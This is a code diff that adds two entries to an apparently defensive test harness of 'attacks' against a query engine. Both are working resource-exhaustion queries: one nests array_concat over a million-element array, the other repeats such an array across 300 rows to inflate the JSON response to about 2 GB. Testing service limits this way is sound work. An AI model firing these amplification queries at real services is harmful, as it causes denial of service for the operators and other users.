@@ -124,6 +124,22 @@ export const ATTACKS: readonly Attack[] = [
     run: async (s) => outcome([await apl(s, `print n = strlen(strrep('abcdefgh', 134217728))`)]),
   },
   {
+    id: '1c-array-concat-doubling',
+    title: '1c. nested `array_concat` of a 1M-element `let` (20M elements from a 150-byte query)',
+    run: async (s) => {
+      const q = `let a = range(1, 1000000, 1); print n = array_length(array_concat(${Array(20).fill('a').join(', ')}))`
+      return outcome([await apl(s, q)])
+    },
+  },
+  {
+    id: '1d-shared-array-response',
+    title: '1d. one 1M-element `let` array in each of 300 rows (small in memory, 2 GB as JSON)',
+    run: async (s) => {
+      const q = 'let a = range(1, 1000000, 1); print i = range(1, 300, 1) | mv-expand i | extend x = a'
+      return outcome([await apl(s, q)])
+    },
+  },
+  {
     id: '2-strcat-rows',
     title: '2. `take 1000 | extend s = strcat(<4 MiB let>, u)`',
     prepare: (s) => loadRows(s, 'd', 1000),
